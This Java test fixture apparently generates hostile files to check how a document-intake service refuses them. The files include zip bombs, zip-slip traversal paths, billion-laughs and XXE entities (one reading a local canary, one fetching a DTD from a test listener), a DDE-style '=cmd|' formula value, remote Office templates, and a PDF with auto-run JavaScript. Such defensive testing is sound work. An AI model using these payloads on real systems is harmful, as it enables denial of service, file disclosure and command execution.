package vn.campaigndesk.intake.golden;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// Files that were made, or broken, to hurt whoever opens them. They are written when a test runs: too big or too
/// dangerous to be kept.
final class HostileFiles {
    /// What stands in a file beside the hostile one, and must never be seen in a result.
    static final String CANARY = "CANARY-7d41f0";

    /// What the intake should say.
    enum Refusal {
        EMPTY,
        ENCRYPTED,
        DAMAGED,
        TOO_LARGE,
        NOT_A_DOCUMENT,
        /// Read or refused, as the reader can, but never accepted without a question.
        QUESTION,
        /// Harmless when treated rightly: it must be read, and a batch goes on.
        NONE
    }

    /// One hostile file.
    ///
    /// @param file a file, or a folder where the folder itself is the attack
    record Hostile(String kind, Path file, Refusal refusal) {}

    private final Path folder;
    private final String callHome;
    private final List<Hostile> written = new ArrayList<>();

    private HostileFiles(Path folder, String callHome) {
        this.folder = folder;
        this.callHome = callHome;
    }

    /// Writes all of them.
    ///
    /// @param callHome an address such as `http://127.0.0.1:4711/`, at which the test listens whether anybody calls
    static Map<String, Hostile> write(Path folder, String callHome) throws IOException {
        var files = new HostileFiles(folder, callHome);
        Files.writeString(folder.resolve("canary.txt"), CANARY);
        files.archives();
        files.markup();
        files.sheets();
        files.broken();
        files.locked();
        files.names();
        files.values();
        files.active();
        files.huge();
        files.pages();
        files.letters();
        return files.written.stream()
                .collect(Collectors.toMap(Hostile::kind, hostile -> hostile, (a, b) -> a, LinkedHashMap::new));
    }

    static Answer answer() {
        return new Answer("UBND huyện Nga Sơn", 5);
    }

    static byte[] form() {
        return WordLetters.alone(answer()).bytes();
    }

    private void add(String kind, String name, byte[] content, Refusal refusal) throws IOException {
        var file = Files.createDirectories(folder.resolve(kind)).resolve(name);
        Files.write(file, content);
        written.add(new Hostile(kind, file, refusal));
    }

    private Path place(String kind, String name, Refusal refusal) throws IOException {
        var file = Files.createDirectories(folder.resolve(kind)).resolve(name);
        written.add(new Hostile(kind, file, refusal));
        return file;
    }

    private void archives() throws IOException {
        var zeros = "0".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
        BigFiles.zip(place("zip-bomb", "a.zip", Refusal.TOO_LARGE), Map.of(), "zeros.txt", zeros, 400);
        var inner = PlainForms.zip("zeros.txt", new byte[10 << 20]);
        var sixteen = new LinkedHashMap<String, byte[]>();
        IntStream.range(0, 16).forEach(i -> sixteen.put(i + ".zip", inner));
        var middle = Zips.of(sixteen);
        sixteen.replaceAll((name, _) -> middle);
        add("zip-bomb-nested", "a.zip", Zips.of(sixteen), Refusal.TOO_LARGE);
        var deep = PlainForms.zip("form.docx", form());
        for (var i = 0; i < 80; i++) {
            deep = PlainForms.zip("a.zip", deep);
        }
        add("zip-in-zip-80-times", "a.zip", deep, Refusal.TOO_LARGE);
        var many = new LinkedHashMap<String, byte[]>();
        IntStream.range(0, 60_000).forEach(i -> many.put(i + ".txt", new byte[0]));
        add("zip-of-60000-files", "a.zip", Zips.of(many), Refusal.TOO_LARGE);
        var text = PlainForms.utf8("x");
        add(
                "zip-slip",
                "a.zip",
                PlainForms.zip(
                        "../../slipped.txt",
                        text,
                        "/tmp/slipped.txt",
                        text,
                        "..\\..\\slipped.txt",
                        text,
                        "C:\\slipped.txt",
                        text),
                Refusal.QUESTION);
        add("zip-truncated", "a.zip", Tampering.half(PlainForms.zip("form.docx", form())), Refusal.DAMAGED);
    }

    private void markup() throws IOException {
        var laughs = new StringBuilder("<!DOCTYPE l [<!ENTITY l0 \"ha\">");
        for (var i = 1; i < 10; i++) {
            laughs.append(
                    "<!ENTITY l%d \"%s\">".formatted(i, "&l%d;".formatted(i - 1).repeat(10)));
        }
        add(
                "billion-laughs",
                "a.docx",
                Tampering.withDoctype("word/document.xml", laughs + "]>", "&l9;", form()),
                Refusal.DAMAGED);
        var book = SheetForms.xlsx().form("Sheet1", answer(), 0).bytes();
        add(
                "billion-laughs-sheet",
                "a.xlsx",
                Tampering.withDoctype("xl/sharedStrings.xml", laughs + "]>", "&l9;", book),
                Refusal.DAMAGED);
        var canary = folder.resolve("canary.txt").toUri();
        add(
                "entity-of-a-file",
                "a.docx",
                Tampering.withDoctype(
                        "word/document.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + canary + "\">]>", "&x;", form()),
                Refusal.DAMAGED);
        add(
                "entity-of-a-file-sheet",
                "a.xlsx",
                Tampering.withDoctype(
                        "xl/sharedStrings.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + canary + "\">]>", "&x;", book),
                Refusal.DAMAGED);
        add(
                "entity-of-the-net",
                "a.docx",
                Tampering.withDoctype("word/document.xml", "<!DOCTYPE d SYSTEM \"" + callHome + "a.dtd\">", "", form()),
                Refusal.DAMAGED);
        add("nested-tables-2000", "a.docx", Tampering.nestedTables(), Refusal.TOO_LARGE);
    }

    private void sheets() throws IOException {
        var book = SheetForms.xlsx().form("Sheet1", answer(), 0).bytes();
        add(
                "sheet-that-claims-all-cells",
                "a.xlsx",
                Tampering.changed(
                        book,
                        "xl/worksheets/sheet1.xml",
                        xml -> xml.replaceFirst("<dimension ref=\"[^\"]*\"", "<dimension ref=\"A1:XFD1048576\"")),
                Refusal.NONE);
        add(
                "sheet-with-a-cell-far-away",
                "a.xlsx",
                SheetForms.xlsx()
                        .form("Sheet1", answer(), 0)
                        .text(1_048_575, 16_383, ".")
                        .bytes(),
                Refusal.NONE);
        var merged = "<mergeCells count=\"1\"><mergeCell ref=\"F1:XFD1048576\"/></mergeCells>";
        add(
                "sheet-merged-to-its-end",
                "a.xlsx",
                Tampering.changed(
                        book,
                        "xl/worksheets/sheet1.xml",
                        xml -> xml.replaceFirst("<mergeCells.*</mergeCells>", merged)),
                Refusal.NONE);
    }

    private void broken() throws IOException {
        var png = new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13, 'I', 'H', 'D', 'R', 0, 0, 0, 1};
        add("picture-named-docx", "a.docx", png, Refusal.NOT_A_DOCUMENT);
        add(
                "program-named-pdf",
                "a.pdf",
                PlainForms.utf8("MZ\u0000\u0001This program cannot be run in DOS mode."),
                Refusal.NOT_A_DOCUMENT);
        for (var name : List.of("a.docx", "a.pdf", "a.xlsx", "a.zip", "a.txt")) {
            add("empty-" + name.substring(2), name, new byte[0], Refusal.EMPTY);
        }
        add("truncated-docx", "a.docx", Tampering.half(form()), Refusal.DAMAGED);
        add(
                "truncated-xlsx",
                "a.xlsx",
                Tampering.half(SheetForms.xlsx().form("Sheet1", answer(), 0).bytes()),
                Refusal.DAMAGED);
        var xls = SheetForms.xls().form("Sheet1", answer(), 0).bytes();
        add("truncated-xls", "a.xls", Tampering.half(xls), Refusal.DAMAGED);
        add("truncated-doc", "a.doc", Tampering.half(golden("054-form-alone.doc")), Refusal.DAMAGED);
        add("truncated-pdf", "a.pdf", Tampering.half(golden("050-form-alone.pdf")), Refusal.QUESTION);
        var looping = xls.clone();
        var table = 512 + 512 * (looping[76] & 0xff);
        Arrays.fill(looping, table, table + 16, (byte) 0);
        add("old-workbook-looping-sectors", "a.xls", looping, Refusal.DAMAGED);
        add(
                "docx-without-its-document",
                "a.docx",
                PlainForms.zip("[Content_Types].xml", PlainForms.utf8("<Types/>")),
                Refusal.DAMAGED);
    }

    private static byte[] golden(String name) throws IOException {
        return Files.readAllBytes(GoldenFiles.FOLDER.resolve(name));
    }

    private void locked() throws IOException {
        add("locked-docx", "a.docx", LockedFiles.office(form()), Refusal.ENCRYPTED);
        add(
                "locked-xlsx",
                "a.xlsx",
                LockedFiles.office(SheetForms.xlsx().form("Sheet1", answer(), 0).bytes()),
                Refusal.ENCRYPTED);
        add("locked-xls", "a.xls", LockedFiles.oldWorkbook(), Refusal.ENCRYPTED);
        add("locked-pdf", "a.pdf", LockedFiles.pdf(golden("050-form-alone.pdf"), "secret"), Refusal.ENCRYPTED);
        add(
                "pdf-locked-against-copying-only",
                "a.pdf",
                LockedFiles.pdf(golden("050-form-alone.pdf"), ""),
                Refusal.NONE);
    }

    private void names() throws IOException {
        var text = PlainForms.utf8(PlainForms.text(answer()));
        add("name-of-255-bytes", "b".repeat(251) + ".txt", text, Refusal.NONE);
        add("name-written-backwards", "bao-cao-\u202Etxt.exe.txt", text, Refusal.NONE);
        add("name-with-emoji", "báo cáo \uD83D\uDE80.txt", text, Refusal.NONE);
        add("name-with-line-break", "bao\ncao.txt", text, Refusal.NONE);
        var loop = Files.createDirectories(folder.resolve("symbolic-loop"));
        Files.createSymbolicLink(loop.resolve("again"), loop);
        Files.write(loop.resolve("a.txt"), text);
        written.add(new Hostile("symbolic-loop", loop, Refusal.NONE));
    }

    private void values() throws IOException {
        value("beyond-64-bits", "99999999999999999999999");
        value("negative", "-9223372036854775808");
        value("formula-as-text", "=1+1");
        value("command-as-text", "=cmd|' /C calc'!A0");
        value("control-signs", "12\u200B\u202E34");
        value("scientific", "1e9");
        value("other-digits", "\u0661\u0662\u0663");
    }

    private void value(String kind, String text) throws IOException {
        add(
                "value-" + kind,
                "a.docx",
                WordLetters.alone(answer().writes(3, text)).bytes(),
                Refusal.QUESTION);
        add(
                "value-" + kind + "-csv",
                "a.csv",
                PlainForms.utf8(PlainForms.csv(answer().writes(3, text), ";")),
                Refusal.QUESTION);
    }

    private void active() throws IOException {
        var office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        var template = "<Relationship Id=\"rId9\" Type=\"" + office + "attachedTemplate\" Target=\"" + callHome
                + "evil.dotm\" TargetMode=\"External\"/>";
        add("template-of-the-net", "a.docx", Tampering.related(template), Refusal.NONE);
        var picture = "<Relationship Id=\"rId9\" Type=\"" + office + "image\" Target=\"" + callHome
                + "pixel.png\" TargetMode=\"External\"/>";
        add("picture-of-the-net", "a.docx", Tampering.related(picture), Refusal.NONE);
        var object = Zips.read(form());
        object.put(
                "word/embeddings/oleObject1.bin",
                SheetForms.xls().form("Sheet1", answer(), 0).bytes());
        add("embedded-object", "a.docx", Zips.of(object), Refusal.NONE);
        var macros = Zips.read(
                Tampering.changed(
                        form(),
                        "[Content_Types].xml",
                        xml -> xml.replace(
                                        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                        "vnd.ms-word.document.macroEnabled.main+xml")
                                .replace(
                                        "</Types>",
                                        "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")));
        macros.put("word/vbaProject.bin", new byte[4096]);
        add("macros-named-docx", "a.docx", Zips.of(macros), Refusal.NONE);
    }

    private void huge() throws IOException {
        var docx = answer().docx();
        var parts = Zips.read(form());
        var head = new String(parts.remove("word/document.xml"), StandardCharsets.UTF_8)
                .replaceFirst("<w:body>.*", "<w:body>");
        var words = "chiến dịch ".repeat(9_000);
        add(
                "paragraph-of-20-megabytes",
                "a.docx",
                Tampering.changed(
                        form(),
                        "word/document.xml",
                        _ -> head + "<w:p><w:r><w:t>" + words.repeat(180) + "</w:t></w:r></w:p></w:body></w:document>"),
                Refusal.TOO_LARGE);
        add(
                "paragraphs-100000",
                "a.docx",
                Tampering.changed(
                        form(),
                        "word/document.xml",
                        _ -> head + docx.paragraph("left", "14", "a").repeat(100_000) + "</w:body></w:document>"),
                Refusal.TOO_LARGE);
        BigFiles.zip(
                place("document-of-300-megabytes", "a.docx", Refusal.TOO_LARGE),
                parts,
                "word/document.xml",
                " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII),
                300);
        add("line-of-20-megabytes", "a.txt", PlainForms.utf8(words.repeat(180)), Refusal.TOO_LARGE);
        add("csv-of-300000-rows", "a.csv", PlainForms.utf8("1;a;2;\n".repeat(300_000)), Refusal.TOO_LARGE);
        BigFiles.plain(place("text-of-80-megabytes", "a.txt", Refusal.TOO_LARGE), words, 800);
        var depth = 1_000_000;
        add(
                "rtf-groups-in-groups",
                "a.rtf",
                PlainForms.utf8("{\\rtf1 " + "{".repeat(depth) + "1" + "}".repeat(depth) + "}"),
                Refusal.TOO_LARGE);
        var elements = "<w:ins>".repeat(100_000) + "</w:ins>".repeat(100_000);
        add(
                "elements-in-elements",
                "a.docx",
                Tampering.changed(
                        form(), "word/document.xml", _ -> head + "<w:p>" + elements + "</w:p></w:body></w:document>"),
                Refusal.TOO_LARGE);
    }

    private void pages() throws IOException {
        add(
                "pdf-page-tree-loop",
                "a.pdf",
                LockedFiles.rawPdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>", ""),
                Refusal.DAMAGED);
        add(
                "pdf-claims-2000000000-pages",
                "a.pdf",
                LockedFiles.rawPdf("<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", ""),
                Refusal.QUESTION);
        add(
                "pdf-script-on-opening",
                "a.pdf",
                LockedFiles.rawPdf(
                        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                        "/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + callHome + "'\\))>>"),
                Refusal.QUESTION);
        add("pdf-of-400-pages", "a.pdf", LockedFiles.pages(400), Refusal.TOO_LARGE);
    }

    private void letters() throws IOException {
        var mail = PlainForms.mail("a@example.vn", "x", "x", Map.of("a.txt", PlainForms.utf8("x")));
        for (var i = 0; i < 100; i++) {
            var text = new String(mail, StandardCharsets.US_ASCII);
            mail = PlainForms.utf8(
                    "From: a@example.vn\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b" + i
                            + "\r\n\r\n--b" + i
                            + "\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"a.eml\"\r\n\r\n"
                            + text + "\r\n--b" + i + "--\r\n");
        }
        add("letter-in-letter-100-times", "a.eml", mail, Refusal.TOO_LARGE);
        add(
                "letter-without-end",
                "a.eml",
                PlainForms.utf8("Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\n".repeat(100_000)),
                Refusal.TOO_LARGE);
    }
}
